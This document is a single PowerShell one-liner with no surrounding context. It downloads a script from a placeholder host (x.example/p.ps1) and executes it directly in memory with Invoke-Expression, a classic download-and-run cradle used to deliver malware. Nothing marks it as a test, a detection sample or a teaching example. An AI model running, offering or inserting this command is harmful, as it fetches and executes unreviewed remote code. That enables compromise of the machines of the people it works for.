IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')
